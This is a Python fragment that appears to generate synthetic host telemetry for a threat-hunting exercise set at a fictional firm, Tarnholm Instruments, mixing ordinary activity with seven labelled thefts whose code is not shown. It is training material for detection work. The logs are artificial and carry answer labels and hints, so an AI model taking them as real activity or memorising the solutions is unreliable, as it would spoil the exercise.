    day, m = Day(), machines()
    for who, device in m.items():
        people = OFFICE_HOURS if who not in DEVELOPERS else DEV_HOURS
        windows_itself(day, device, 26, [h + 1 for h in people])
        office_work(day, who, device, 30 if who in OFFICE else 12, people)
        if who in DEVELOPERS:
            development(day, who, device, 42)
        if who in ADMINS:
            administration(day, who, device, 14)
    for name in ("th-fs-01", "th-dc-01", "th-mgmt-01", "th-bld-01"):
        windows_itself(day, Device(name), 40, ALL_DAY)
    linux = [Device(n, linux=True) for n in ("th-bld-lnx-02", "th-lnx-app-03", "th-lnx-app-05", "th-netcfg-01", "th-lnx-db-01")]
    linux_servers(day, linux, 330)
    day.rows.append(
        process(at("23:59:41.204118"), linux[1], ROOT, "logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "dash", "/bin/sh /etc/cron.daily/logrotate", "cron",
                why="The newest row: the look-back counts from here."))  # fmt: skip
    return day.rows + benign_alerts(m) + thefts(m)


MIXED_DAY = (
    "mixed-day", "A Thursday at Tarnholm Instruments",
    "Seven thefts among thousands of rows of work. The rule finds four of them whole or in part and one by accident; the rest are near misses. Start with who pushes at an odd hour or from an odd parent, then look for what did not alert.",
    mixed_day,
    {"label": "benign", "why": "Ordinary work of the day.", "signals": []},
)  # fmt: skip
